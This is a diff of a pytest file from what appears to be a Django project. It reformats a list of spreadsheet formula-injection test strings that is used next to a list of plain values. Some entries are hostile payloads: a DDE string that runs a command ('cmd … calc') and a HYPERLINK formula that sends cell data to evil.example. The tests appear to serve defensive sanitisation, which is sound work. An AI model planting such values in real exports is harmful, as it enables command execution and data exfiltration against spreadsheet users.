@@ -33,7 +33,8 @@ pytestmark = pytest.mark.django_db
 FORMULAS = [
     "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  =1+1",
     "\ufeff=1+1", "'=1+1", '"=1+1', "\x00=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(A1)",
-    ";=1+1", "|=1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1)', "-2+3+cmd|' /C calc'!A0",
+    ";=1+1", "|=1", "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example?"&A1)', "-2+3+cmd|' /C calc'!A0",
     "+9715x", "--1", "-1;=2", "+971 50\n=1",
 ]  # fmt: skip
 PLAIN = ["+971501234567", "+971 50 123 4567", "-750000.00", "-0.5", "1500000", "share_5v3v", "",
